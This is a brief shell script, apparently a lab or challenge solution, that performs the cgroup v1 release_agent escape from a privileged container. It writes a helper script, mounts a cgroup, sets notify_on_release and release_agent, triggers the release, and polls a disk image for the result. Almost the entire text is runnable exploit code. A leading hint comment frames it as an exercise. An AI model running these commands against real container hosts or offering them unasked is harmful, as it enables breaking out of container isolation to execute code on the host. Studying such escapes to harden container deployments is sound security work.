#: hint: nothing shows that the privileged container had it do so
printf '#!/bin/sh\nhostname > /dev/loop0\n' > /tmp/x; chmod 755 /tmp/x
mkdir /tmp/v1; mount -t cgroup -o none,name=v1 v1 /tmp/v1
mkdir /tmp/v1/empty; echo 1 > /tmp/v1/empty/notify_on_release; echo /tmp/x > /tmp/v1/release_agent
sh -c 'echo $$ > /tmp/v1/empty/cgroup.procs'
until head -n 1 /srv/disk.img | grep -av 'as it was'; do sleep 0.3; done
